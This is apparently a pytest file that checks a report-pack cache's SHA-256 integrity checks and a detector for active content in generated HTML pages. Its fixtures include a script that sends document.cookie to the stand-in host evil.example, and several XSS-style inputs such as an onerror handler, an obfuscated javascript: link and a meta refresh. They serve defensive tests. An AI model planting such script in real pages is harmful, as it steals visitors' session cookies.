"""Cached sections and inputs are used only while they are the bytes whose SHA-256 was recorded when they were kept;
``verify`` checks the page afresh (issue 21). What the user keeps: a page with no planted script, and a verify that fails
(exit 1, one line) on a page that holds one."""

from __future__ import annotations

import json
import logging
from pathlib import Path

import pytest

from readiness.pack import pipeline
from readiness.pack.cache import DIGESTS, keep_verified, read_verified
from readiness.pack.sections import Section
from readiness.pack.verify import active_content, verify_pack

PLANTED = "<script>fetch('https://evil.example/?'+document.cookie)</script>"


def test_kept_bytes_are_read_back_only_while_they_match_the_recorded_hash(tmp_path):
    path = tmp_path / "section.html"
    keep_verified(path, b"<p>as kept</p>")
    assert read_verified(path) == b"<p>as kept</p>"
    path.write_bytes(b"<p>as kept</p>" + PLANTED.encode())
    assert read_verified(path) is None
    (tmp_path / "planted.html").write_bytes(b"<p>never kept</p>")  # a file the cache has no record of
    assert read_verified(tmp_path / "planted.html") is None
    assert read_verified(tmp_path / "absent.html") is None
    assert set(json.loads((tmp_path / DIGESTS).read_text(encoding="utf-8"))) == {"section.html"}


def test_a_section_planted_in_the_cache_is_run_again_not_shown(tmp_path, caplog):
    notebook = tmp_path / "notebooks" / "03_assessments.ipynb"
    section = Section(notebook, "Assessments", ())
    working, cache = tmp_path / "working", tmp_path / "cache"
    working.mkdir()
    cache.mkdir()
    (working / notebook.name).write_text('{"cells": []}', encoding="utf-8")
    pipeline._store(section, "k" * 64, "<p>Assessments</p>", working, cache)
    assert pipeline._from_cache(section, "k" * 64, working, cache) == "<p>Assessments</p>"
    kept = cache / f"03_assessments-{'k' * 20}.html"
    kept.write_text("<p>Assessments</p>" + PLANTED, encoding="utf-8")
    with caplog.at_level(logging.WARNING, logger="readiness"):
        assert pipeline._from_cache(section, "k" * 64, working, cache) is None
    assert "03_assessments.ipynb: the cached section is not as it was kept (its SHA-256 differs); running it again" in caplog.text


@pytest.mark.parametrize(
    "html, found",
    [
        (PLANTED, "a <script> element"),
        ('<img src="data:image/png;base64,AA" onerror="alert(1)">', "an onerror attribute on <img>"),
        ('<a href=" java\tscript:alert(1)">x</a>', "href on <a>"),
        ('<img src="https://tracker.example/p.png">', "src on <img> is not an embedded image"),
        ('<link rel="stylesheet" href="https://cdn.example/a.css">', "a <link> element"),
        ("<style>@import 'https://cdn.example/a.css';</style>", "a <style> element imports or loads a file"),
        ('<p style="background:url(https://x.example/a.png)">x</p>', "a style attribute on <p>"),
        ('<meta http-equiv="refresh" content="0;url=https://x.example">', "a <meta http-equiv> element"),
        ('<iframe srcdoc="<p>x</p>"></iframe>', "a <iframe> element"),
        ('<svg><image xlink:href="https://x.example/a.png"/></svg>', "xlink:href on <image>"),
    ],
    ids=[
        "script",
        "event handler",
        "javascript link",
        "remote image",
        "stylesheet",
        "css import",
        "css url",
        "meta refresh",
        "iframe",
        "svg remote image",
    ],
)
def test_the_page_check_finds_code_and_requests(html, found):
    [line] = active_content(f"<html><body>{html}</body></html>")
    assert found in line


def test_the_page_check_passes_what_a_pack_holds():
    page = (
        '<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">'
        "<style>body { font: 12pt sans-serif; }</style></head><body>"
        '<a href="#front_door--heading">Front door</a> <a href="https://www.gov.uk/x">DfE</a>'
        '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="chart"><img src="data:image/png;base64,iVBO" alt="chart">'
        "<p>A label &lt;script&gt; written as text</p></body></html>"
    )
    assert active_content(page) == []


def test_verify_of_a_folder_without_a_page_checks_its_inputs_only(tmp_path):
    (tmp_path / "manifest.json").write_text(json.dumps({"inputs": {}}), encoding="utf-8")
    assert verify_pack(Path(tmp_path)) == []
